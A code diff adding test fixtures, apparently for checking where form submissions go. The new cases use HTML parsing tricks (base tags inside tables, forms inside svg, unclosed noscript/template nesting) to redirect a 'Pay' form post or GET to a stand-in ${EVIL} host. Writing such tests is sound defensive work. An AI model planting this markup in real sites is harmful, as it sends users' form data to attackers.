@@ -119,6 +119,23 @@ const PAGES = {
     html: `<form id="x" method="post"><ul><li><select></ul></form><input type="submit" formmethod="get" value="Look"><input name="q">`,
     enter: true,
   },
+  "/table-base": {
+    html: `<table><tr><td><form method="post" action="orders"><input name="q"><button>Pay</button></form></td></tr><base href="${EVIL}/"></table>`,
+    click: "text=Pay",
+  },
+  "/svg-form-pin": {
+    html: `<svg><form method="post"></form></svg><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="${EVIL}/">`,
+    click: "text=Pay",
+    posts: true,
+  },
+  "/noscript-template": {
+    html: `<noscript><template></noscript><form method="post"></form></template><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="${EVIL}/">`,
+    click: "text=Pay",
+  },
+  "/noscript-template-get": {
+    html: `<form method="get" action="${EVIL}"><noscript><template></noscript></form></template><form method="post" action="/orders"><input name="q"><button>Pay</button></form>`,
+    enter: true,
+  },
   "/noscript-pixel": {
     html: `<noscript><img height="1" width="1" style="display:none" src="/px?id=1&amp;ev=PageView&amp;noscript=1"/></noscript><form method="post" action="/orders"><input name="q"><button>Pay</button></form>`,
     click: "text=Pay",
